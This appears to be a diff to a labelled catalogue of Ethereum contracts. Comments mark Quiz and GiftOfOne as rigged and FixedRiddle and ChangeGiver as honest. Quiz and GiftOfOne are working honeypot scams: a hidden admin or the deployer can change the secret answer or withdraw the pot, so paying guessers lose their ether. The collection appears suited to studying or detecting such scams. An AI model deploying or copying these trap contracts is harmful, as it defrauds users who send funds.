@@ -595,6 +595,53 @@ contract KeptBridge is Ownable {
     function release(address payable to, bytes32 from) external payable onlyOwner { require(!done[from]); done[from] = true; to.transfer(msg.value); }
 }
 
+// A pot for the right answer.
+
+/// Whoever hides it changes it first.
+contract Quiz {
+    string public question;
+    bytes32 private answer;
+    mapping(bytes32 => bool) private admin;
+    constructor() { admin[keccak256(abi.encodePacked(msg.sender))] = true; }
+    modifier isAdmin() { require(admin[keccak256(abi.encodePacked(msg.sender))]); _; }
+    function guess(string calldata word) external payable {
+        require(msg.sender == tx.origin);
+        if (answer == keccak256(abi.encode(word)) && msg.value > 1 ether) payable(msg.sender).transfer(address(this).balance);
+    }
+    function ask(string calldata question_, bytes32 answer_) external payable isAdmin { (question, answer) = (question_, answer_); }
+    function end() external payable isAdmin { payable(msg.sender).transfer(address(this).balance); }
+}
+
+/// A gift of which somebody else seems to have set the word.
+contract GiftOfOne {
+    address private sender = msg.sender;
+    bytes32 public word;
+    bool private isSet;
+    receive() external payable {}
+    function setWord(bytes32 word_) external payable { if (!isSet && msg.value >= 1 ether) word = word_; }
+    function fix() external { if (msg.sender == sender) isSet = true; }
+    function get(bytes calldata word_) external payable { if (keccak256(word_) == word) payable(msg.sender).transfer(address(this).balance); }
+    function revoke() external { require(msg.sender == sender); payable(sender).transfer(address(this).balance); }
+}
+
+/// Honest: nobody changes the answer, and nobody else gets the pot.
+contract FixedRiddle {
+    bytes32 public answer = keccak256("sphinx");
+    receive() external payable {}
+    function guess(string calldata word) external payable { if (answer == keccak256(bytes(word))) payable(msg.sender).transfer(address(this).balance); }
+}
+
+/// Honest: gives what is left to whoever asks, as routers do, unless it is shut.
+contract ChangeGiver is Ownable {
+    bool public shut;
+    uint256 public fee;
+    receive() external payable {}
+    function setShut(bool shut_) external onlyOwner { shut = shut_; }
+    function setFee(uint256 fee_) external onlyOwner { fee = fee_; }
+    function refund() external payable { require(!shut); payable(msg.sender).transfer(address(this).balance); }
+    function rescue() external onlyOwner { payable(owner).transfer(address(this).balance); }
+}
+
 // Paid from what others put in.
 
 /// So much a day, and a tenth for the house.
